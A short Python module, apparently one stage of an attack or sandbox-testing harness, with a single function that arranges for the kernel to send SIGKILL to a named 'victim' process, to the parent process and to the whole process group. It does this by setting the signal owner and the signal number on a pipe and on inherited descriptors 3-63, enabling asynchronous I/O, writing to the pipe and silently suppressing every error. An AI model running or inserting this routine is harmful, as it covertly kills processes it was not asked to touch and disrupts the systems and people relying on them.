"""Lets the kernel send a signal of its choice to another process when a descriptor becomes ready."""

import array
import contextlib
import fcntl
import os
import signal
import termios
import time
from typing import Any


def f(stage: dict[str, Any]) -> str:
    reader, writer = os.pipe()
    for pid in (stage["victim"], os.getppid(), -os.getpgrp()):
        for descriptor in (reader, *range(3, 64)):
            with contextlib.suppress(OSError):
                fcntl.ioctl(descriptor, 0x8901, array.array("i", [pid]))
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, pid)
                fcntl.fcntl(descriptor, 10, signal.SIGKILL)
                flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
                fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_ASYNC)
                fcntl.ioctl(descriptor, termios.FIOASYNC, array.array("i", [1]))
        os.write(writer, b"x")
    time.sleep(0.2)
    return ""
